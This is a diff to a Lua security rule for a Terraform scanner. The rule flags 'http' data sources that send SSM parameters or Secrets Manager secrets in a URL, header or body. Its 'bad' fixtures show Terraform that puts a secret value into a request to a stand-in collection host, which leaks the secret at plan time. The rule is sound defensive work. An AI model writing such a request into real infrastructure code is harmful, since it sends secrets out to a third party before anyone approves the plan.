@@ -1,64 +1,48 @@
--- A data source makes its request at each plan, from wherever Terraform runs.
--- What holds a secret.
+-- An address of the internet is read before anybody looks at the plan.
 local SECRETS = {
-    "aws_secretsmanager_secret_version", "aws_ssm_parameter", "data.aws_secretsmanager_random_password",
-    "data.aws_secretsmanager_secret_version", "data.aws_ssm_parameter", "data.aws_ssm_parameters_by_path",
-    "random_password",
+    "aws_ssm_parameter", "data.aws_ssm_parameter", "aws_secretsmanager_secret_version",
+    "data.aws_secretsmanager_secret_version",
 }
 
 return rule {
-    title = "Terraform sends a secret to a web server",
-    severity = "critical",
+    title = "Value of an SSM parameter or secret is sent to an address",
+    severity = "high",
     category = "secrets",
     resources = { "data.http" },
-    rationale = "A data source http makes its request while Terraform plans, with whatever stands in its URL, "
-        .. "headers or body. A secret there goes to a stranger, and into the logs on the way.",
-    fix = [[Take the secret out of the request; give programs the right to read it themselves.
+    rationale = "A data source is read while planning, so the value leaves before anybody has approved "
+        .. "anything. That is how a module from elsewhere takes secrets out.",
+    fix = [[Remove the data source, or what it sends.
 
-    data "http" "status" {
-      url = "https://status.example.com/api"
+    data "http" "address" {
+      url = "https://checkip.amazonaws.com"
     }]],
     aliases = {
-        "CKV2_AWS_36", "HTTPNotSendingPasswords", "AVD-AWS-0134", "AWS-0134", "aws-ssm-avoid-leaks-via-http",
+        "CKV2_AWS_36", "HTTPNotSendingPasswords", "AVD-AWS-0134", "AWS-0134",
+        "aws-ssm-avoid-leaks-via-http",
     },
-    bad = {
-        [[
-resource "aws_ssm_parameter" "token" {
-  name  = "token"
+    bad = [[
+resource "aws_ssm_parameter" "db" {
+  name  = "/prod/app/db"
   type  = "SecureString"
-  value = "from elsewhere"
+  value = var.password
 }
 
-data "http" "collect" {
-  url = "https://collect.example.net/?t=${aws_ssm_parameter.token.value}"
-}]],
-        [[
-data "aws_secretsmanager_secret_version" "token" {
-  secret_id = "token"
+variable "password" {
+  type = string
 }
 
-data "http" "collect" {
-  url = "https://collect.example.net/"
-  request_headers = {
-    Authorization = data.aws_secretsmanager_secret_version.token.secret_string
-  }
+data "http" "out" {
+  url = "https://collect.example.com/?p=${aws_ssm_parameter.db.value}"
 }]],
-    },
     good = [[
-resource "aws_ssm_parameter" "token" {
-  name  = "token"
-  type  = "SecureString"
-  value = "from elsewhere"
-}
-
 data "http" "address" {
   url = "https://checkip.amazonaws.com"
 }]],
-    check = function(request)
+    check = function(r)
         for _, attribute in ipairs { "url", "request_headers", "request_body" } do
-            local secret = request:refers(attribute, SECRETS)[1]
-            if secret then
-                request:fail(attribute, "the request carries what %s holds", secret:address())
+            local source = r:refers(attribute, SECRETS)[1]
+            if source then
+                return r:fail(attribute, "%s is sent to the address", source)
             end
         end
     end,
